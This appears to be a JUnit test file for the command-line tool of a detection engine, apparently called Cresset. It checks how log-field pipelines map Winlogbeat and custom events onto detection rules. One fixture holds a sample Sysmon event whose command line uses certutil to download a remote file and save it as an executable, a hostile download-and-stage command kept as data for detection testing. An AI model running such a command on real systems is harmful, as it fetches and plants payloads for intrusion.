package org.cresset.node.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// Pipelines, as a user gives them to commands.
final class PipelineCommandsTest {

    /// A process start of Sysmon as Winlogbeat 8 ships it: its ingest pipeline has moved event_data to ECS fields.
    private static final String WINLOGBEAT = """
        {"@timestamp":"2026-03-04T09:12:44.101Z","agent":{"type":"winlogbeat","version":"8.17.0"},"ecs":{"version":"8.0.0"},\
        "event":{"action":"Process creation","category":["process"],"code":"1","kind":"event","module":"sysmon",\
        "provider":"Microsoft-Windows-Sysmon","type":["start"]},"host":{"name":"ws-17.example.org"},\
        "process":{"args":["certutil.exe","-urlcache","-split","-f","https://203.0.113.9/a.txt","C:\\\\Users\\\\Public\\\\a.exe"],\
        "command_line":"certutil.exe  -urlcache -split -f https://203.0.113.9/a.txt C:\\\\Users\\\\Public\\\\a.exe",\
        "executable":"C:\\\\Windows\\\\System32\\\\certutil.exe","entity_id":"{00000000-0000-0000-0000-000000000001}",\
        "name":"certutil.exe","pid":4711,"parent":{"executable":"C:\\\\Windows\\\\System32\\\\cmd.exe",\
        "command_line":"cmd.exe","pid":4000},"pe":{"original_file_name":"CertUtil.exe"}},\
        "user":{"domain":"EXAMPLE","name":"j.doe"},\
        "winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","computer_name":"ws-17.example.org","event_id":"1",\
        "event_data":{"IntegrityLevel":"Medium"},"provider_name":"Microsoft-Windows-Sysmon","record_id":"900"}}
        """;

    private static final String RULE = """
        title: Shell
        id: 6f0c8a8e-0000-4000-8000-000000000009
        level: high
        logsource: {product: acme, category: process_creation}
        detection: {sel: {Image|endswith: sh}, condition: sel}
        """;

    private static final String PIPELINE = """
        name: acme
        transformations:
          - when: {vendor: acme}
            logsource: {product: acme, category: process_creation}
            fields: {exe: Image, gone: User}
        """;

    @TempDir
    Path folder;

    private String file(String name, String text) throws IOException {
        return Files.writeString(folder.resolve(name), text).toString();
    }

    @Test
    void a_process_start_of_winlogbeat_is_found_by_our_own_rules_with_the_bundled_pipeline_only() throws IOException {
        String log = file("winlogbeat.ndjson", WINLOGBEAT);
        assertThat(Run.of("scan", log, "--json").out()).isEmpty();
        Run piped = Run.of("scan", log, "--pipeline", "ecs-windows", "--json");
        assertThat(piped.out())
                .contains("\"host\":\"ws-17.example.org\"")
                .containsIgnoringCase("certutil")
                .contains("\"pid\":4711");
        String bare = file(
                "bare.ndjson",
                WINLOGBEAT.substring(0, WINLOGBEAT.indexOf(",\"winlog\"")).concat("}\n"));
        assertThat(Run.of("scan", bare, "--pipeline", "ecs-windows", "--json").lines())
                .hasSameSizeAs(piped.lines());
    }

    @Test
    void the_summary_says_what_a_pipeline_did() throws IOException {
        String log = file("log.json", "{\"vendor\":\"acme\",\"exe\":\"/bin/sh\"}\n{\"vendor\":\"x\"}\n");
        String rule = file("rule.yml", RULE);
        String pipeline = file("acme.pipeline", PIPELINE);
        Path out = folder.resolve("run");
        Run run = Run.wide(
                120,
                "scan",
                log,
                "--only-rules",
                "-r",
                rule,
                "--pipeline",
                pipeline,
                "-v",
                "--out-dir",
                out.toString());
        assertThat(run.code()).isEqualTo(ExitCode.DONE);
        assertThat(run.out()).contains("Pipeline    acme: 1 events | 1 fields and transformations saw nothing");
        assertThat(run.err()).contains("pipeline acme: 1 events; fields never seen: gone");
        assertThat(Files.readString(out.resolve("summary.json")))
                .contains("\"name\" : \"acme\"")
                .containsPattern("\"unseen\" : \\[\\s*\"gone\"\\s*\\]");
        assertThat(Files.readAllLines(out.resolve("detections.jsonl"))).hasSize(1);
    }

    @Test
    void a_pipeline_applies_in_tests_and_explanations() throws IOException {
        String log = file("log.json", "{\"vendor\":\"acme\",\"exe\":\"/bin/sh\"}\n");
        String rule = file("rule.yml", RULE);
        String pipeline = file("acme.pipeline", PIPELINE);
        assertThat(Run.of("rules", "test", rule, "--on", log).code()).isEqualTo(ExitCode.FINDINGS);
        Run tested = Run.of("rules", "test", rule, "--on", log, "--pipeline", pipeline, "-v");
        assertThat(tested.code()).isEqualTo(ExitCode.DONE);
        assertThat(tested.err()).contains("pipeline acme: 1 events; fields never seen: gone");
        assertThat(Run.of("rules", "explain", rule, "--on", log, "--pipeline", pipeline)
                        .err())
                .contains("the rule fires on 1");
    }

    @Test
    void a_pipeline_that_cannot_be_carried_out_ends_with_4_and_names_file_line_and_reason() throws IOException {
        String bad = file("bad.yml", PIPELINE.replace("fields:", "felds:"));
        for (List<String> command : List.of(
                List.of("rules", "check"),
                List.of("scan", file("log.json", "{}")),
                List.of("rules", "test", file("rule.yml", RULE), "--on", file("log.json", "{}")),
                List.of("rules", "explain", file("rule.yml", RULE), "--on", file("log.json", "{}")))) {
            Run run = Run.of(Stream.concat(command.stream(), Stream.of("--pipeline", bad))
                    .toArray(String[]::new));
            assertThat(run.code()).isEqualTo(ExitCode.NOTHING_TO_RUN);
            assertThat(run.err()).contains("bad.yml: line 5: unknown key 'felds' of a transformation");
        }
        assertThat(Run.of("rules", "check", "--pipeline", "no-such").code()).isEqualTo(ExitCode.USAGE);
    }

    @Test
    void check_says_what_the_author_of_a_pipeline_should_look_at() throws IOException {
        String pipeline = file("p.yml", PIPELINE.replace("vendor:", "agent.type:"));
        Run run = Run.of("rules", "check", "--pipeline", pipeline);
        assertThat(run.code()).isEqualTo(ExitCode.DONE);
        assertThat(run.err())
                .contains("pipeline acme: 1 transformations, priority 0")
                .contains("line 3: agent.type is left out of records that Cresset itself knows as of Windows");
        assertThat(Run.of("rules", "check", "--pipeline", "ecs-windows").err().lines())
                .hasSize(1);
        String[] strict = {"rules", "check", "--disable", "CR201", "--fail-on-warning", "--pipeline"};
        assertThat(Run.of(Stream.concat(Stream.of(strict), Stream.of(pipeline)).toArray(String[]::new))
                        .code())
                .isEqualTo(ExitCode.FINDINGS);
        assertThat(Run.of(Stream.concat(Stream.of(strict), Stream.of("ecs-windows"))
                                .toArray(String[]::new))
                        .code())
                .isEqualTo(ExitCode.DONE);
    }

    @Test
    void a_pipeline_is_part_of_the_content_that_a_run_names() throws IOException {
        String log = file("log.json", "{\"vendor\":\"acme\",\"exe\":\"/bin/sh\"}\n");
        Path one = folder.resolve("one");
        Path two = folder.resolve("two");
        Run.of("scan", "-q", log, "--out-dir", one.toString());
        Run.of("scan", "-q", log, "--out-dir", two.toString(), "--pipeline", "ecs-windows");
        assertThat(content(one)).isNotEqualTo(content(two));
    }

    private static String content(Path run) throws IOException {
        return Files.readString(run.resolve("summary.json"))
                .lines()
                .filter(line -> line.contains("\"content\""))
                .findFirst()
                .orElseThrow();
    }
}
